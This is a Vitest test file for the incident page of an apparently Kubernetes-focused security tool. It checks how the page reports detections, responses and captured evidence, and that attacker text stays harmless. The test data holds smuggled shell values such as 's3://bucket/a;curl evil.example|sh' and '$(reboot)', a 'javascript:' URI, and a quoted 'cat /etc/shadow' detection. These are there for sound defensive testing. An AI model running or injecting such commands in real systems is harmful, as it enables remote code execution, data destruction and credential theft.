import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { incidentPartition } from '../../../lib/incident/incident.ts'
import { actionSortKey } from '../../../lib/response/record.ts'
import { HOSTILE_TEXTS } from '../../browser/hostile-texts.ts'
import { playStory, type ServedChain, serveChain } from '../../browser/incident-page-story.ts'
import { keepFull } from './full-incident.ts'
import { ask, incidentOf, keep, memoryStore, NOW } from './page-answer.ts'

/** What is read of the page: its text, in one line. */
const textOf = (body: string) =>
  body
    .replace(/<style>.*<\/style>/s, '')
    .replace(/<[^>]*>/g, ' ')
    .replaceAll('&#39;', "'")
    .replaceAll('&quot;', '"')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
    .replace(/\s+/g, ' ')

describe('the page of the story, as the stages wrote it', () => {
  let served: ServedChain
  let shell = ''
  let netcat = ''
  beforeAll(async () => {
    served = await serveChain()
    const ids = await playStory(served.chain)
    shell = textOf(await (await fetch(`${served.url}/incidents/${ids.shell}`)).text())
    netcat = textOf(await (await fetch(`${served.url}/incidents/${ids.netcat}`)).text())
  })
  afterAll(() => served.stop())

  test.each([
    [
      'what it is, how bad and how it stands',
      /High Open Shell then credential read creance-demo\/nginx-[\w-]+ in cluster demo : 2 detections within 20 ms/,
    ],
    ['the windows of correlations', /Shell then credential read came true: 2 detections within 20 ms From, to, pods/],
    ['what was seen', /Read sensitive file untrusted was seen: cat \/etc\/shadow \/etc\/shadow/],
    ['what a response asked for', /Response isolate pod creance-demo\/nginx-[\w-]+: approve by response "Isolate a pod/],
    ['a press that was refused, and why', /Press Isolate was pressed by @mallory : refused No permission in the rules allows this person/],
    ['a press that was taken', /Press Isolate was pressed by @alice : accepted/],
    ['what was done', /Outcome isolate pod creance-demo\/nginx-[\w-]+ by @alice : done NetworkPolicy/],
    ['who undid it', /Isolate creance-demo\/nginx-[\w-]+ : undone : by @bob Asked by @alice/],
    ['its technique', /T1059/],
    [
      'what it belongs to',
      /Deployment nginx owns ReplicaSet nginx-\w+\. ReplicaSet nginx-\w+ owns Pod creance-demo\/nginx-[\w-]+\. Pod creance-demo\/nginx-[\w-]+ runs on Node local\. .* acts as ServiceAccount default/,
    ],
    ['what was not read', /What was not read Nothing: all that was asked for was answered\./],
  ])('tells %s', (_name, words) => expect(shell).toMatch(words))

  test('tells what was written in one millisecond in the order in which one leads to the other', () => {
    const at = ['Incident Remote', 'Response delete', 'Action delete', 'Outcome delete'].map((words) => netcat.indexOf(words))
    expect(at).toEqual(at.toSorted((a, b) => a - b))
    expect(Math.min(...at)).toBeGreaterThan(0)
  })

  test('tells where the evidence of a deleted pod is, and what it hashes to', () => {
    expect(netcat).toMatch(/Critical Contained Remote shell through netcat/)
    expect(netcat).toMatch(/Captured evidence Pod creance-demo\/payments-[\w-]+ Where \S+ SHA-256 [0-9a-f]{64} How to check it/)
  })
})

test.each([
  ['open', {}, 'Open: nobody has taken it yet'],
  ['acknowledged', { acknowledgedBy: 'alice' }, 'Acknowledged by alice : somebody looks after it.'],
  ['contained', {}, 'Contained: every pod that was heard of was dealt with.'],
  ['closed', { closedBy: 'alice', closedWhy: 'not a threat' }, 'Closed by alice : not a threat . A new detection opens another incident.'],
  ['closed', {}, 'Closed. A new detection'],
] as const)('an incident that is %s says so', async (status, given, words) => {
  const store = memoryStore()
  await keep(store, incidentOf({ id: 'a', status, ...given }))
  expect(textOf((await ask(store, '/incidents/a')).body)).toContain(words)
})

test('what was not asked of the cluster is said, and where nobody was told', async () => {
  const store = memoryStore()
  await keep(store, incidentOf({ id: 'a', routes: [] }))
  const text = textOf((await ask(store, '/incidents/a')).body)
  expect(text).toContain('What was not read: the cluster was not asked about this incident yet.')
  expect(text).toContain('none: nobody was told')
  expect(text).toContain('Nothing was done, and nothing is asked for.')
})

test('a person is called by name where it is known', async () => {
  const store = memoryStore()
  await keep(store, incidentOf({ id: 'a', status: 'acknowledged', acknowledgedBy: 'U0ALICE' }))
  const press = { user: 'U0ALICE', name: 'alice', atMs: NOW }
  const offer = { nonce: 'nonce-0000000000000001', incident: 'a', action: 'acknowledge', parameters: {}, expiresMs: NOW, claim: press }
  await store.put({ pk: incidentPartition('a'), sk: 'offer#1', data: offer }, 'absent')
  expect(textOf((await ask(store, '/incidents/a')).body)).toContain('Acknowledged by @alice')
})

describe('evidence that was captured', () => {
  const HASH = 'a'.repeat(64)
  test.each([
    ['s3://creance-evidence/demo/a.json.gz', 'aws s3 cp s3://creance-evidence/demo/a.json.gz - | sha256sum'],
    ['file:///var/lib/creance/evidence/a.json.gz', 'sha256sum /var/lib/creance/evidence/a.json.gz'],
    ['s3://bucket/a;curl evil.example|sh', undefined],
    ['s3://bucket/$(reboot)', undefined],
    ['file:///a b', undefined],
    ['javascript:alert(1)', undefined],
    ['https://evil.example/', undefined],
    ['s3://bucket/a\nreboot', undefined],
  ])('at %s: a command only where a shell takes it as it is', async (uri, command) => {
    const store = memoryStore()
    await keep(store, incidentOf({ id: 'a' }))
    const target = { cluster: 'demo', namespace: 'shop', pod: 'web-1', seenNs: '1' }
    const request = { id: 'x', incident: 'a', action: 'delete', parameters: {}, target, by: { kind: 'sweep' }, expiresMs: NOW }
    await store.put({ pk: incidentPartition('a'), sk: actionSortKey('x'), data: { request, evidence: { uri, sha256: HASH } } }, 'absent')
    const { body } = await ask(store, '/incidents/a')
    expect(body).toContain(HASH)
    expect(body).not.toMatch(/href="(?:javascript|s3|file|https:\/\/evil)/i)
    if (command === undefined) expect(textOf(body)).toContain('there is no command here to copy')
    else expect(textOf(body)).toContain(command)
  })
})

const TAGS = new Set(
  'html head meta title style body a header b main footer time span h1 h2 h3 p nav ul ol li dl div dt dd code bdi details summary table thead tbody tr th td svg g rect text path desc'.split(
    ' ',
  ),
)

describe('what attackers write', () => {
  test.each(HOSTILE_TEXTS.map((text) => ({ text })))('stays a text wherever it stands: $text', async ({ text }) => {
    const store = memoryStore()
    await keepFull(store, text)
    for (const { status, body } of [await ask(store, '/incidents/full'), await ask(store, '/incidents')]) {
      expect(status).toBe(200)
      const page = body.replace(/<style>.*?<\/style>/s, '').replace(/^<!doctype html>/, '')
      const tags = [...page.matchAll(/<\/?([^\s>/]*)/g)].map(([, name]) => name ?? '')
      expect(tags.filter((name) => !TAGS.has(name))).toEqual([])
      const attributes = [...page.matchAll(/<\w+((?:\s+[\w-]+(?:="[^"<>]*")?)*)\s*\/?>/g)].flatMap(([, all = '']) =>
        [...all.matchAll(/([\w-]+)=/g)].map(([, name]) => name),
      )
      expect(attributes.filter((name) => /^(on|src|style|action|formaction|srcdoc|xlink)/.test(name ?? ''))).toEqual([])
      const addresses = [...page.matchAll(/href="([^"]*)"/g)].map(([, href]) => href ?? '')
      expect(
        addresses.filter(
          (href) =>
            !/^(#\w+|\.\.\/incidents|incidents\/full|\?[\w=&;.-]*|https:\/\/attack\.mitre\.org\/(techniques|tactics)\/[\w/]+|[\w!'()*~.%#&;-]+)$/.test(
              href,
            ),
        ),
      ).toEqual([])
      expect(addresses.filter((href) => /^\w+:/.test(href) && !href.startsWith('https://attack.mitre.org/'))).toEqual([])
      expect(page.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u200e\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u)
    }
  })
})

test.each([
  { name: 'plain letters', text: 'x'.repeat(1000), most: 900_000 },
  { name: 'what takes most room when it is escaped', text: '"'.repeat(1000), most: 4_000_000 },
  { name: 'what is written out', text: '\u{e0041}'.repeat(500), most: 4_500_000 },
])(
  'an incident at every cap, of $name, is a page that a gateway takes, and says what is left out',
  async ({ text, most }) => {
    const store = memoryStore()
    await keepFull(store, text, { caps: true })
    const { status, body } = await ask(store, '/incidents/full')
    expect(status).toBe(200)
    expect(Buffer.byteLength(body)).toBeLessThan(most)
    const words = textOf(body)
    expect(words).toContain('800 lines of the journal in between are not shown.')
    expect(words).toContain('has 1,000 lines or more; not all were read.')
    expect(words).toContain('50 earlier actions are left out.')
    expect(words).toContain('123,436 more detections were counted')
    expect(words).toContain('80 captures more are not shown.')
  },
  60_000,
)
